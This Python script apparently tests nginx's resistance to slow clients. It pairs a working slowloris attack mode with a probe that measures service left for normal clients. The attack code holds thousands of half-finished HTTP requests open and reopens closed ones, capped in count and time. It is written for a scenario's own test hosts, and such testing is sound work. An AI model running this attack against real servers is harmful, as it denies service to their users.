"""Slow clients against nginx, and a normal client that measures what they leave for others.

    slow_clients.py attack HOST PORT [--connections 2000] [--hold 12]
        Opens up to CONNECTIONS connections to HOST:PORT from this machine's one address, each
        sending a request line and then one header line a second, never finishing them (a
        "slowloris"). Connections the server closes are opened again every second (at most 10
        opens per connection in all), so the server faces the full count for HOLD seconds.
        Prints one JSON line "ready" once the connections are open, then one JSON summary.

    slow_clients.py probe URL [--duration 10] [--interval 0.2] [--timeout 2]
        A normal client: a new connection and one GET every INTERVAL seconds for DURATION
        seconds. Prints one JSON summary: every answer's status (0: no answer within TIMEOUT).

Bounded in count and time, standard library only (the probe runs on a test host without
third-party packages). Use it only against the scenario's own test hosts.
"""
from __future__ import annotations

import argparse
import json
import resource
import socket
import sys
import time
import urllib.error
import urllib.request

MAX_CONNECTIONS = 5000
MAX_SECONDS = 60
# connections the server closes are opened again, up to this many opens per connection in all
MAX_OPENS_PER_CONNECTION = 10


def _raise_open_files_limit(wanted: int) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(wanted, hard), hard))


HEAD = b"GET / HTTP/1.1\r\nHost: slow\r\nUser-Agent: slow-client\r\n"


def attack(host: str, port: int, connections: int, hold: float) -> dict:
    _raise_open_files_limit(connections + 100)
    begin = time.monotonic()
    deadline = begin + hold
    held: set[socket.socket] = set()
    stats = {"opened": 0, "failed": 0, "closed_by_server": 0, "first_close_after": None}
    budget = connections * MAX_OPENS_PER_CONNECTION

    def top_up() -> None:
        # one connection after the other, as fast as the server completes them
        nonlocal budget
        while len(held) < connections and budget > 0 and time.monotonic() < deadline:
            budget -= 1
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.settimeout(1.0)
            try:
                sock.connect((host, port))
                sock.sendall(HEAD)
            except OSError:
                stats["failed"] += 1
                sock.close()
                continue
            sock.setblocking(False)
            held.add(sock)
            stats["opened"] += 1

    top_up()
    print(json.dumps({"ready": True, "open": len(held)}), flush=True)
    line = 0
    while time.monotonic() < deadline:
        time.sleep(min(1.0, max(0.0, deadline - time.monotonic())))
        # every second: drop what the server closed, add one header line (never the blank
        # line that would end them) to the others, and open again what was closed
        for sock in list(held):
            try:
                sock.recv(4096)  # the server closed it, or answered (408, 400): over either way
                closed = True
            except BlockingIOError:
                closed = False
            except OSError:
                closed = True
            if not closed:
                try:
                    sock.send(b"X-Slow-%d: x\r\n" % line)
                    continue
                except OSError:
                    pass
            held.discard(sock)
            sock.close()
            stats["closed_by_server"] += 1
            if stats["first_close_after"] is None:
                stats["first_close_after"] = round(time.monotonic() - begin, 1)
        line += 1
        top_up()
    stats["open_at_end"] = len(held)
    for sock in held:
        sock.close()
    return stats


def probe(url: str, duration: float, interval: float, timeout: float) -> dict:
    statuses = []
    slowest = 0.0
    end = time.monotonic() + duration
    while time.monotonic() < end:
        started = time.monotonic()
        try:
            # urllib opens a new connection per request, as a fresh client does
            with urllib.request.urlopen(url, timeout=timeout) as resp:
                resp.read()
                statuses.append(resp.status)
        except urllib.error.HTTPError as exc:
            statuses.append(exc.code)
        except OSError:
            statuses.append(0)
        took = time.monotonic() - started
        slowest = max(slowest, took)
        time.sleep(max(0.0, interval - took))
    return {"statuses": statuses, "slowest": round(slowest, 3)}


def main(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = parser.add_subparsers(dest="mode", required=True)
    a = sub.add_parser("attack")
    a.add_argument("host")
    a.add_argument("port", type=int)
    a.add_argument("--connections", type=int, default=2000)
    a.add_argument("--hold", type=float, default=12.0)
    p = sub.add_parser("probe")
    p.add_argument("url")
    p.add_argument("--duration", type=float, default=10.0)
    p.add_argument("--interval", type=float, default=0.2)
    p.add_argument("--timeout", type=float, default=2.0)
    args = parser.parse_args(argv)
    if args.mode == "attack":
        if not 0 < args.connections <= MAX_CONNECTIONS or not 0 < args.hold <= MAX_SECONDS:
            parser.error(f"at most {MAX_CONNECTIONS} connections for at most {MAX_SECONDS} s")
        result = attack(args.host, args.port, args.connections, args.hold)
    else:
        if not 0 < args.duration <= MAX_SECONDS:
            parser.error(f"at most {MAX_SECONDS} s")
        result = probe(args.url, args.duration, args.interval, args.timeout)
    print(json.dumps(result), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
